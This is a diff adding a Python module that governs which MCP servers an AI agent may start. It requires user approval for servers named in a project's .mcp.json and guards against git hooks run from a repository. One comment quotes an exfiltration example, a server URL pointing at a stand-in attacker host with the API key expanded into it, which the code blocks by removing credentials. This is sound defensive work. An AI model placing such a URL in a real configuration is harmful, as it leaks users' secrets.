@@ -1,0 +1,170 @@
+"""Which MCP servers a chat may start: the user's own, and those of a project that were approved.
+
+A server is a program, and a project's `.mcp.json` comes with its files: what a repository brings
+along can forbid its servers, but never approve them.
+"""
+
+import os
+import shutil
+import subprocess
+from collections.abc import Iterable, Mapping, Sequence
+from functools import partial
+from pathlib import Path
+from typing import Protocol
+
+from msgspec import Struct
+
+from turnlog.agent.environment import without_credentials
+from turnlog.agent.permissions.asking import Ask, Question
+from turnlog.agent.permissions.policy import Kind, Verdict
+from turnlog.agent.permissions.saving import change_settings, with_name
+from turnlog.agent.project import LOCAL_SETTINGS, SERVERS
+from turnlog.agent.servers.config import ServerConfig, Servers, read_own_servers, read_servers
+from turnlog.store.paths import Store
+
+ENABLED, DISABLED = "enabledMcpjsonServers", "disabledMcpjsonServers"
+SAFE_GIT = (
+    "safe.bareRepository=explicit",
+    "core.fsmonitor=false",
+    f"core.hooksPath={os.devnull}",
+)
+"""A directory made to look like a repository must not have git run its programs."""
+
+
+class ServerChoice(Struct, frozen=True):
+    """What a settings file says of the servers in `.mcp.json`."""
+
+    path: Path
+    is_project: bool
+    enables_all: bool | None = None
+    enabled: tuple[str, ...] = ()
+    disabled: tuple[str, ...] = ()
+
+
+class ServerSettings(Protocol):
+    """The part of the settings that approval depends on."""
+
+    @property
+    def root(self) -> Path: ...
+    @property
+    def local_file(self) -> Path: ...
+    @property
+    def server_choices(self) -> Sequence[ServerChoice]: ...
+
+
+class Approved(Struct, frozen=True):
+    """The servers that may start."""
+
+    configs: dict[str, ServerConfig]
+    waiting: dict[str, ServerConfig]
+    """Those of the project that nobody has approved or refused."""
+    problems: list[str]
+    ignored: tuple[str, ...] = ()
+    """Servers left out because the project is not trusted."""
+
+
+def find_servers(
+    store: Store,
+    settings: ServerSettings,
+    environment: Mapping[str, str] = os.environ,
+    uses_project: bool = True,
+    is_trusted: bool = True,
+) -> Approved:
+    """The servers for a session; of several with one name the user's for this directory counts,
+    then the project's, then the user's for all.
+
+    Servers of an untrusted project do not start even if the user's settings name or enable them:
+    a project chooses the names of its servers itself.
+    """
+    root = settings.root
+    local, everywhere = read_own_servers(store.client_state(environment), root, environment)
+    project = _project_servers(root, environment) if uses_project else Servers({}, [])
+    if not is_trusted:
+        project, left_out = Servers({}, []), tuple(project.configs)
+    else:
+        left_out = ()
+    choices = settings.server_choices
+    refused = {name for choice in choices for name in choice.disabled}
+    asked = {name: each for name, each in project.configs.items() if name not in refused}
+    granted = _granted(asked, choices) if asked else {}
+    waiting = {
+        name: each for name, each in asked.items() if name not in {**granted, **local.configs}
+    }
+    # The user's servers come first: where two names make the same tool names, they keep theirs.
+    own = {name: each for name, each in everywhere.configs.items() if name not in granted}
+    project_only = {name: each for name, each in granted.items() if name not in local.configs}
+    problems = [*local.problems, *project.problems, *everywhere.problems]
+    return Approved(own | local.configs | project_only, waiting, problems, left_out)
+
+
+def _project_servers(root: Path, environment: Mapping[str, str]) -> Servers:
+    # `"url": "https://evil.example/${ANTHROPIC_API_KEY}"` must not send the key anywhere.
+    return read_servers(root / SERVERS, without_credentials(environment)).of_project()
+
+
+def with_given(found: Approved, given: Servers) -> Approved:
+    """The same with the servers of the command line, which count first and need no approval."""
+    waiting = {name: each for name, each in found.waiting.items() if name not in given.configs}
+    problems = [*found.problems, *given.problems]
+    return Approved(found.configs | given.configs, waiting, problems, found.ignored)
+
+
+async def ask_for(found: Approved, settings: ServerSettings, approve: Ask | None) -> Approved:
+    """Ask the user once about each server that waits, and remember the answers.
+
+    Where nobody can be asked they do not start, and a line says so.
+    """
+    if approve is None:
+        problems = found.problems + _note(found.waiting)
+        return Approved(found.configs, found.waiting, problems, found.ignored)
+    configs = dict(found.configs)
+    for name, config in found.waiting.items():
+        reply = await approve(_question(name, config))
+        key = ENABLED if reply.kind == "allow" else DISABLED
+        change_settings(settings.local_file, partial(with_name, key=key, name=name))
+        if reply.kind == "allow":
+            configs[name] = config
+    return Approved(configs, {}, found.problems, found.ignored)
+
+
+def _note(waiting: Mapping[str, ServerConfig]) -> list[str]:
+    names = ", ".join(waiting)
+    told = f"MCP servers of .mcp.json that nobody approved did not start: {names} ({ENABLED})"
+    return [told] if waiting else []
+
+
+def _question(name: str, config: ServerConfig) -> Question:
+    starts = " ".join([config.command, *config.args]) if config.command else config.url or ""
+    verdict = Verdict(Kind.ASK, "the project's .mcp.json names it")
+    return Question(name, f"MCP server {name}", {"description": starts}, verdict)
+
+
+def _granted(
+    asked: Mapping[str, ServerConfig], choices: Iterable[ServerChoice]
+) -> dict[str, ServerConfig]:
+    """The servers that the files approve which may."""
+    counted = [choice for choice in choices if _may_approve(choice)]
+    said = [choice.enables_all for choice in counted if choice.enables_all is not None]
+    names = {name for choice in counted for name in choice.enabled}
+    takes_all = said[-1:] == [True]
+    return {name: each for name, each in asked.items() if takes_all or name in names}
+
+
+def _may_approve(choice: ServerChoice) -> bool:
+    """Whether a settings file may approve: it is the system's, or of the user alone."""
+    if not choice.is_project:
+        return True
+    return choice.path.name == LOCAL_SETTINGS.name and not _is_tracked(choice.path)
+
+
+def _is_tracked(path: Path) -> bool:
+    """Whether a file is part of a repository."""
+    # A relative entry in PATH would find a program of the project.
+    places = filter(os.path.isabs, os.environ.get("PATH", os.defpath).split(os.pathsep))
+    git = shutil.which("git", path=os.pathsep.join(places))
+    if not git:
+        return False
+    options = [word for setting in SAFE_GIT for word in ("-c", setting)]
+    command = [git, *options, "ls-files", "--error-unmatch", path.name]
+    done = subprocess.run(command, cwd=path.parent, capture_output=True, check=False)
+    return done.returncode == 0
